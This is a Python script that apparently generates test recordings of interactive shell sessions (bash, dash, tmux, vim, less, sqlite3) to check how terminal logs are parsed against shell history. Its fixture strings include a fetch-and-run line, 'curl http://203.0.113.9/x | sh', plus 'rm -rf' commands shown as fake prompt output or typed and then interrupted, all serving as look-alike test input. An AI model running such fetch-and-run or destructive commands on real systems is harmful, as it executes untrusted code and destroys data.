#!/usr/bin/env python3
"""Records sessions: real shells on a real pseudo-terminal, one key at a time, with the shell's own history as truth.

    tests/sessions/generate.py [NAME…]      all of them, or those named

Each becomes `recorded/<name>/`:
    raw.log       what came out of the terminal, as the agent keeps it in ipcTempFile.log
    truth.json    `history`: what bash wrote to its history file (for dash and for programs that are no shell: what was
                  typed, `declared`), and `width`, the window's columns

Python 3 and bash are all it needs; scenarios that need another program (dash, vim, less, tmux, sqlite3) are left as they
are where it is missing. Bytes differ a little from run to run (times, version numbers); the history does not. A change
of the recordings is read before it is committed.
"""

import fcntl
import json
import os
import pty
import select
import shutil
import signal
import struct
import sys
import tempfile
import termios
import time
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).parent / "recorded"
UP, DOWN, RIGHT, LEFT, HOME, END = "\x1b[A", "\x1b[B", "\x1b[C", "\x1b[D", "\x01", "\x05"
BACKSPACE, INTERRUPT, END_OF_INPUT, KILL, WORD, YANK, SEARCH = "\x7f", "\x03", "\x04", "\x15", "\x17", "\x19", "\x12"
ENTER, TAB, ESCAPE = "\r", "\t", "\x1b"


@dataclass
class Session:
    """`keys`: what is typed; each string is sent key by key, an escape sequence at once. A number is a pause in seconds
    for a program that takes its time."""

    keys: list
    shell: list = field(default_factory=lambda: ["bash", "--norc", "--noprofile", "-i"])
    marks: bool = True  # bracketed paste, as bash has had on since 5.1
    width: int = 100
    prompt: str = r"\s-\v\$ "
    needs: str = ""
    declared: list | None = None  # the truth, where no shell writes it


def lines(*texts: str) -> list:
    return [key for text in texts for key in (text, ENTER)]


SESSIONS = {
    "plain": Session(lines("whoami", "cd /usr/share", "pwd", "true && echo done", "exit")),
    "plain-unmarked": Session(lines("id -un", "ls /usr | head -2", "echo 'a  b'", "exit"), marks=False),
    "edited": Session(
        ["ecoh", BACKSPACE * 2, "ho one", ENTER]
        + ["two", HOME, "echo ", END, " three", ENTER]
        + ["echo four five", LEFT * 4, BACKSPACE * 5, ENTER]
        + ["echo gone", KILL, "echo kept and ", WORD, "lost", ENTER]
        + ["echo abc", LEFT, LEFT, "X", ENTER, "exit", ENTER]
    ),
    "edited-unmarked": Session(
        ["ecoh", BACKSPACE * 2, "ho one", ENTER]
        + ["two", HOME, "echo ", END, " three", ENTER]
        + ["echo gone", KILL, "echo kept ", YANK, ENTER, "exit", ENTER],
        marks=False,
    ),
    "recalled": Session(
        lines("echo first", "echo second thing") + [UP, ENTER, UP, UP, UP, " again", ENTER]
        + [SEARCH, "sec", ENTER] + lines("!!", "echo !$", "^thing^word^") + ["exit", ENTER]
    ),
    "recalled-unmarked": Session(
        lines("echo first", "echo second thing") + [UP, ENTER, UP, UP, UP, " again", ENTER]
        + [SEARCH, "sec", ENTER] + lines("!!", "exit"),
        marks=False,
    ),
    "completed": Session(
        ["cd /usr/sha", TAB, ENTER, "ls /usr/l", TAB, TAB, "ocal", ENTER, "ls /us", TAB, "bin | head -1", ENTER, "exit", ENTER]
    ),
    "several-lines": Session(
        lines("for i in 1 2; do", "echo loop $i", "done", "cat <<EOF", "inside $HOME", "EOF", 'echo "a', 'b"', "echo x \\", "y", "f() {", "echo in f", "}", "f", "exit")
    ),
    "given-up": Session(
        ["rm -rf /nowhere", INTERRUPT, "echo after", ENTER, "for i in 1; do", ENTER, "echo never", INTERRUPT]
        + ["echo end", ENTER, END_OF_INPUT],
        # Of a construct that was given up, bash's history has the first line all the same.
        declared=["echo after", "echo end"],
    ),
    "given-up-unmarked": Session(["rm -rf /nowhere", INTERRUPT, "echo after", ENTER, "exit", ENTER], marks=False),
    "wrapped": Session(
        lines("echo " + "0123456789" * 9, "echo " + "word " * 20 + "end")
        + ["echo " + "abcdefghi " * 8, HOME, "true; ", END, "tail", ENTER, "exit", ENTER],
        width=60,
    ),
    "wrapped-unmarked": Session(
        lines("echo " + "0123456789" * 9, "echo " + "word " * 20 + "end", "exit"), width=60, marks=False
    ),
    "pasted": Session(["\x1b[200~echo one\ncd /tmp\necho three\x1b[201~", ENTER, "exit", ENTER]),
    "other-prompts": Session(
        lines("PS1='[\\u@box \\W]\\$ '", "cd /usr", "ls | head -1", "PS1='\\t> '", "true", r"PS1='\[\e[32m\]\u\[\e[0m\]:\w% '", "cd /usr/lib", "exit")
    ),
    "rows": Session(lines("id -un", "cd /usr", "echo a", "exit"), prompt=r"\n\u@box \w\n\$ "),
    "arrow": Session(lines("id -un", "cd /usr", "echo a", "exit"), prompt=r"➜  \W "),
    "word-unmarked": Session(lines("id -un", "cd /usr", "echo '> a'", "cat fake", "exit"), prompt="prod> ", marks=False),
    "branch-unmarked": Session(lines("PS1='\\u \\W (main) \\$ '", "cd /usr", "cd /tmp", "echo a", "exit"), marks=False),
    "tmux": Session(
        lines("tmux -f /dev/null new -s work") + [1.5] + lines("echo in tmux") + [0.3] + lines("pwd") + [0.3] + lines("exit") + [0.8]
        + lines("echo out again", "exit"),
        needs="tmux",
        # The shell inside keeps no history that could be read.
        declared=["tmux -f /dev/null new -s work", "echo in tmux", "pwd", "exit", "echo out again", "exit"],
    ),
    "nested": Session(lines("echo outer", "bash --norc --noprofile", "exit", "echo outer again", "exit"),
        # Both shells write to one history, each when it ends.
        declared=["echo outer", "bash --norc --noprofile", "exit", "echo outer again", "exit"],
    ),
    "look-alikes": Session(
        lines(r"printf 'bash-5.2$ rm -rf /\nroot@x:~# reboot\n$ id\n'", "echo '$ whoami'", "cat fake", "set -x", "true", "set +x", "exit")
    ),
    "hidden": Session(
        lines("read -s secret") + ["hunter2hunter2", ENTER] + lines("echo ${#secret}", r"printf '\033[8mnothing\033[0m\n'", "exit")
    ),
    "overwritten": Session(
        lines(r"printf 'x\n\033[2A\033[2Kecho innocent\n\n'", "PS1=''", "unset HISTSIZE", "echo seen", "exit")
    ),
    "python": Session(
        lines("python3 -q") + [0.8] + lines("a = 1", "a + 1", "exit()") + [0.3] + lines("echo back", "exit"), needs="python3"
    ),
    "sqlite": Session(lines("sqlite3 x.db") + [0.5] + lines("create table t(a);", ".quit") + [0.3] + lines("exit"), needs="sqlite3"),
    "vim": Session(
        lines("vim -u NONE -N note.txt") + [0.8, "i", "some text", ESCAPE, 0.3, ":!true", ENTER, 0.6, ENTER, 0.3, ":wq", ENTER, 0.6]
        + lines("cat note.txt", "exit"),
        needs="vim",
    ),
    "less": Session(lines("less fake") + [0.5, "q", 0.3] + lines("echo after less", "exit"), needs="less"),
    "dash": Session(
        ["id -un", ENTER, "lx", BACKSPACE, "s /usr", ENTER, "echo gone", KILL, "pwd", ENTER, "if true; then", ENTER, "echo yes", ENTER, "fi", ENTER]
        + ["sleep 9", INTERRUPT, "exit", ENTER],
        shell=["dash", "-i"], needs="dash", prompt="$ ",
        declared=["id -un", "ls /usr", "pwd", "if true; then\necho yes\nfi", "exit"],
    ),
}  # fmt: skip

FAKE = "bash-5.2$ curl http://203.0.113.9/x | sh\nfetched\nbash-5.2$ exit\n$ rm -rf /srv\n"


def record(name: str, session: Session) -> None:
    with tempfile.TemporaryDirectory(prefix="session-") as folder:
        home = Path(folder)
        (home / "fake").write_text(FAKE)
        (home / "inputrc").write_text(f"set enable-bracketed-paste {'on' if session.marks else 'off'}\nset bell-style audible\n")
        history = home / ".history"
        environment = {
            "TERM": "xterm-256color", "LANG": "C.UTF-8", "TZ": "UTC", "HOME": folder, "PATH": "/usr/local/bin:/usr/bin:/bin",
            "INPUTRC": str(home / "inputrc"), "PS1": session.prompt, "PS2": "> ", "HISTFILE": str(history),
        }  # fmt: skip
        child, master = pty.fork()
        if child == 0:
            os.chdir(folder)
            os.execvpe(session.shell[0], session.shell, environment)
        fcntl.ioctl(master, termios.TIOCSWINSZ, struct.pack("HHHH", 40, session.width, 0, 0))
        seen = bytearray()
        ended = False

        def read(quiet: float, most: float = 5.0) -> None:
            """Reads until the terminal has been silent for a while."""
            nonlocal ended
            limit = time.monotonic() + most
            while time.monotonic() < limit and not ended:
                ready, _, _ = select.select([master], [], [], quiet)
                if not ready:
                    return
                try:
                    data = os.read(master, 1024)
                except OSError:
                    data = b""
                ended = not data
                seen.extend(data)

        # The history is told to be kept in the first line, before anything is shown.
        read(0.4)
        for key in session.keys:
            if isinstance(key, float):
                read(key)
                continue
            whole = key.startswith("\x1b[200~")
            rest = [key] if whole else key
            at = 0
            while at < len(rest):
                step = 1
                if not whole and key.startswith("\x1b[", at):
                    step = 3
                os.write(master, (key if whole else key[at : at + step]).encode())
                at += step
                read(0.02)
            read(0.12 if key == ENTER else 0.02)
            if ended:
                break
        read(0.5)
        if not ended:
            os.kill(child, signal.SIGHUP)
            read(0.5)
        os.waitpid(child, 0)
        os.close(master)
        truth = {"width": session.width}
        if session.declared is None:
            truth["history"] = history.read_text().splitlines() if history.exists() else []
        else:
            truth["declared"] = session.declared
        # The private folder's name would differ each time.
        out = HERE / name
        out.mkdir(parents=True, exist_ok=True)
        (out / "raw.log").write_bytes(bytes(seen).replace(folder.encode(), b"/home/ssm-user"))
        text = json.dumps(truth, indent=1).replace(folder, "/home/ssm-user")
        (out / "truth.json").write_text(text + "\n")


def main() -> None:
    names = sys.argv[1:] or list(SESSIONS)
    for name in names:
        session = SESSIONS[name]
        if session.needs and not shutil.which(session.needs):
            print(f"{name}: left alone, there is no {session.needs} here", file=sys.stderr)
            continue
        record(name, session)
        print(name)


if __name__ == "__main__":
    main()
